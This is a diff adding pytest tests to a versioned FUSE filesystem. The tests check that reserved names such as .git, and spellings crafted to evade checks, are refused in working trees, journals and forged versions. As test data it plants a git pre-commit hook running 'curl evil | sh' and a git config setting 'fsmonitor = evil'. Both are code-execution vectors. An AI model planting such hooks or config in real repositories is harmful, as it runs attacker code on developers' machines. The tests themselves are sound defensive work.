@@ -10,10 +10,13 @@ process that drops to uid 65534 before it acts.
 
 from __future__ import annotations
 
+import errno
+import io
 import json
 import os
 import shutil
 import signal
+import stat
 import subprocess
 import tempfile
 import time
@@ -21,6 +24,7 @@ from collections.abc import Iterator
 from dataclasses import asdict, replace
 from pathlib import Path
 
+import msgpack
 import pytest
 
 from daemon.logs import redact
@@ -33,11 +37,16 @@ from tests.mount_support import (
     in_mount_table,
     mounted,
     push_to,
+    stop,
     write,
 )
-from vfs import mounts
+from tests.test_worktree import Worktree, errno_of, wt_fixture
+from vfs import ChunkRef, Entry, Kind, mounts
+from vfs.codec import encode_tree, encode_version
+from vfs.objects import ObjKind
 from vfs.repo import Repository
 
+__all__ = ["wt_fixture"]  # the fixture, for pytest
 SECRET = "hunter2-secret-value"
 NOBODY = 65534
 
@@ -243,3 +252,116 @@ def test_records_go_only_to_a_private_runtime_directory(tmp_path: Path) -> None:
     os.chown(planted, 0, 0)
     assert_ok(run(tmp_path, "mounts", env=env))
     assert planted.stat().st_mode & 0o777 == 0o700
+
+
+# ---------------------------------------------------------------------------- reserved names
+
+
+def test_reserved_names_cannot_enter_the_working_tree(wt: Worktree) -> None:
+    """EPERM for every way a name is made, at any depth, in every spelling git refuses."""
+    d = wt.data
+    (d / "sub" / "hooks").mkdir()
+    names = [".git", ".GIT", ".dvfs", ".Dvfs", ".git.", ".git::$INDEX_ALLOCATION", "GIT~1",
+             ".g\u200cit", "dvfs~1"]  # fmt: skip
+    for where in (wt.mnt, d, d / "sub" / "deep"):
+        for name in names:
+            target = where / name
+            assert errno_of(os.mkdir, target) == errno.EPERM, target
+            assert errno_of(os.open, target, os.O_WRONLY | os.O_CREAT, 0o644) == errno.EPERM
+            assert errno_of(os.symlink, "a.txt", target) == errno.EPERM
+            assert errno_of(os.mknod, target, stat.S_IFREG | 0o644) == errno.EPERM
+            assert errno_of(os.link, d / "a.txt", target) == errno.EPERM
+            assert errno_of(os.rename, d / "a.txt", target) == errno.EPERM
+            assert errno_of(os.rename, d / "sub" / "hooks", target) == errno.EPERM
+    # .versions: refused at the top (where the version list is), an ordinary name below
+    assert errno_of(os.rename, d / "sub" / "hooks", wt.mnt / ".versions") == errno.EPERM
+    assert errno_of(os.mkdir, wt.mnt / ".versions") == errno.EEXIST
+    assert os.listdir(wt.mnt / ".versions")[0] == "v1"
+    (d / ".versions").write_bytes(b"allowed here\n")
+    (wt.local / ".versions").write_bytes(b"allowed here\n")
+    (wt.local / "sub" / "hooks").mkdir()
+    # git cannot make a repository here, nor point one here (its .git is a file then)
+    for args in (["init", "-q"], ["init", "-q", "--separate-git-dir", str(wt.home / "g")]):
+        proc = subprocess.run(["git", *args, str(d / "proj")], capture_output=True, check=False)
+        assert proc.returncode != 0 and b"Operation not permitted" in proc.stderr
+        shutil.rmtree(d / "proj", ignore_errors=True)
+    n = wt.snapshot("no repository configuration got in")
+    wt.check(n)
+
+
+def _journal(work: Path) -> Path:
+    (path,) = work.glob("journal.*")
+    return path
+
+
+def test_a_working_tree_from_before_the_fix_holding_git_is_not_snapshot(wt: Worktree) -> None:
+    """A journal may name .git (made before names were checked): MNT shows it, snapshot refuses."""
+    head = Repository(wt.repo).history.head_id()
+    (wt.data / "hooks").mkdir()
+    (wt.data / "hooks" / "pre-commit").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
+    stop(wt.mount)
+    work = wt.repo / ".dvfs" / "worktrees" / "main"
+    records = list(msgpack.Unpacker(io.BytesIO(_journal(work).read_bytes()), raw=False))
+    (d_nid, nid) = next((r[1], r[3]) for r in records if r[0] == "L" and r[2] == b"hooks")
+    with open(_journal(work), "ab") as f:  # as an older daemon would have journaled it
+        f.write(msgpack.packb(["U", d_nid, b"hooks"], use_bin_type=True))
+        f.write(msgpack.packb(["L", d_nid, b".git", nid], use_bin_type=True))
+    with mounted(str(wt.repo), wt.mnt, wt.home) as m:
+        assert (wt.data / ".git" / "pre-commit").read_bytes().startswith(b"#!/bin/sh")
+        line = assert_error(wt.dvfs("snapshot", str(wt.mnt), "-m", "x"), "data/.git")
+        assert "rename or remove it" in line
+        assert Repository(wt.repo).history.head_id() == head  # nothing recorded
+        os.rename(wt.data / ".git", wt.data / "hooks")  # renaming it away is allowed
+        shutil.copytree(wt.data / "hooks", wt.local / "hooks")
+        wt.mount = m
+        wt.check(wt.snapshot("hooks, not .git"))
+
+
+def _forge(repo: Repository, head: bytes, extra: dict[bytes, Entry]) -> bytes:
+    """A version of ``head`` with root entries added, stored past the codec's checks."""
+    hist, store = repo.history, repo.store
+    v = hist.version(head)
+    entries = {e.name: e for e in hist.tree(v.tree).entries} | extra
+    root, _ = store.put(ObjKind.TREE, encode_tree(list(entries.values())))
+    made = replace(v, tree=root, parents=(head,), number=v.number + 1, message="forged")
+    oid, _ = store.put(ObjKind.VERSION, encode_version(made))
+    store.flush()
+    return oid
+
+
+def _dir_of(repo: Repository, entries: list[Entry]) -> bytes:
+    oid, _ = repo.store.put(ObjKind.TREE, encode_tree(entries))
+    return oid
+
+
+@pytest.mark.parametrize("mode", ["--writable", "--read-only"])
+def test_versions_holding_reserved_names_are_refused_by_the_mount(
+    tmp_path: Path, mode: str
+) -> None:
+    root = tmp_path / "repo"
+    repo = Repository.init(root)
+    write(root, "data/a.txt", b"a\n")
+    base = commit(repo, "one")
+    chunk, _ = repo.store.put(ObjKind.CHUNK, b"[core]\n\tfsmonitor = evil\n")
+    config = Entry(b"config", Kind.FILE, 0o644, 25, 0, chunk, (ChunkRef(chunk, 25),))
+    git_dir = _dir_of(repo, [config])
+    evil = _dir_of(repo, [Entry(b".git", Kind.DIR, 0o755, 25, 0, subtree=git_dir)])
+    listed = Entry(b"v1", Kind.FILE, 0o644, 25, 0, chunk, (ChunkRef(chunk, 25),))
+    fake = _dir_of(repo, [listed])
+    head = _forge(repo, base, {
+        b"evil": Entry(b"evil", Kind.DIR, 0o755, 25, 0, subtree=evil),
+        b".versions": Entry(b".versions", Kind.DIR, 0o755, 25, 0, subtree=fake),
+    })  # fmt: skip
+    top = _forge(repo, base, {b".git": Entry(b".git", Kind.DIR, 0o755, 25, 0, subtree=git_dir)})
+    repo.refs.update("refs/heads/main", head, base)
+    repo.refs.update("refs/tags/top", top, None)
+    with mounted(str(root), tmp_path / "mnt", tmp_path / "home", mode) as m:
+        assert sorted(os.listdir(m.path)) == ["data", "evil"]  # readdirplus of MNT
+        assert os.stat(m.path / ".versions").st_ino == 2  # still the version list
+        assert os.listdir(m.versions)[:3] == ["v1", "v2", "latest"]
+        for bad in (m.path / "evil", m.versions / "v2" / "evil", m.versions / "tags" / "top"):
+            assert errno_of(os.listdir, bad) == errno.EIO, bad
+        assert (m.path / "data" / "a.txt").read_bytes() == b"a\n"  # the rest still reads
+        assert (m.versions / "v1" / "data" / "a.txt").read_bytes() == b"a\n"
+        assert m.proc.poll() is None
+        assert "reserved name b'.git'" in m.log_text()
